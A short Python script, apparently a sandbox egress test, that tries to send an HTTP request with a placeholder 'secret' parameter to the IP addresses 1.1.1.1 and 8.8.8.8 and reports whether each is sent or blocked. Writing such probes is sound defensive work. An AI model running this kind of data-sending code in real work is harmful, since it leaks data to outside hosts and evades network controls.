# Hostile: sends data to the internet by IP address (no DNS needed).
import socket
for host in ("1.1.1.1", "8.8.8.8"):
    try:
        socket.create_connection((host, 80), timeout=2).sendall(b"GET /?secret=1 HTTP/1.0\r\n\r\n")
        print(f"SENT {host}")
    except OSError as error:
        print(f"blocked {host}: {error}")
